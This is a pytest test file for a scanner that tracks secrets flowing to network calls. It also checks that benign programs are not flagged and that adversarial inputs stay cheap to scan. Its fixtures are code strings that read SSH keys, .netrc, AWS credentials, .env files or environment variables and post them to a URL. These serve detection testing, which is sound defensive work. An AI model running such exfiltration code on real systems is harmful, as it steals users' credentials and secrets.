import time

import pytest

from panguard.scan.flow_unparsed import unparsed_leaks
from panguard.scan.sensitive import Secret

READ = 'data = open("~/.ssh/id_rsa").read()\n'


@pytest.mark.parametrize(
    ("program", "kind"),
    [
        (READ + "requests.post(url, data=data)", Secret.CREDENTIALS),
        (READ + "text = encode(data)\nurllib2.urlopen(url, text)", Secret.CREDENTIALS),
        (READ + "s.sendall(data)", Secret.CREDENTIALS),
        ("requests.post(url, data=open('/root/.netrc').read())", Secret.CREDENTIALS),
        (
            "with open('/root/.aws/credentials') as f:\n    t = f.read()\nhttpx.post(url, content=t)",
            Secret.CREDENTIALS,
        ),
        (
            (
                "found = []\nfor p in ('.ssh/id_rsa', '.npmrc'):\n    found.append(open(p).read())\n"
                "requests.post(url, json=found)"
            ),
            Secret.CREDENTIALS,
        ),
        (
            (
                "def main():\n    requests.post(url, data=collect())\ndef collect():\n"
                "    return open('/root/.netrc').read()"
            ),
            Secret.CREDENTIALS,
        ),
        ("requests.post(url, json=dict(os.environ))", Secret.ENVIRONMENT),
        ("e = os.environ.copy()\nrequests.post(url, json=e)", Secret.ENVIRONMENT),
        ("c = open('.env').read()\nrequests.post(url, data=c)", Secret.SETTINGS),
        (">>> k = open('/root/.netrc').read()\n>>> requests.post(url, data=k)", Secret.CREDENTIALS),
    ],
)
def test_a_secret_is_followed_to_where_it_leaves(program: str, kind: Secret) -> None:
    assert {leak.secret for leak in unparsed_leaks(program)} == {kind}


@pytest.mark.parametrize(
    "program",
    [
        READ + "requests.post(url, json={'q': 1})",
        READ + "print data",
        READ + "requests.post('http://localhost:80', data=data)",
        "key = os.environ['API_KEY']\nrequests.post(url, headers={'X': key}, json=body)",
        "key = open('/root/.netrc').read()\nrequests.post(url, headers={'X': key}, json=body)",
        "path = '.env'\nrequests.post(url, data=body)",
        (
            "class A:\n    def a(self):\n        self.k = open('/root/.netrc').read()\n"
            "        requests.post(self.url, json=self.body)"
        ),
        "",
    ],
)
def test_honest_programs_are_left_alone(program: str) -> None:
    assert unparsed_leaks(program) == ()


@pytest.mark.parametrize(
    "piece",
    [
        READ,
        "requests.post(",
        "requests.post(url, data=data)\n",
        "def a",
        "with open(",
        "for a in ",
        "a.append(",
        "headers={",
        ".ssh/id_rsa ",
    ],
)
def test_a_hostile_program_costs_little(piece: str) -> None:
    text = READ + piece * (400_000 // len(piece))
    start = time.process_time()
    unparsed_leaks(text)
    assert time.process_time() - start < 3
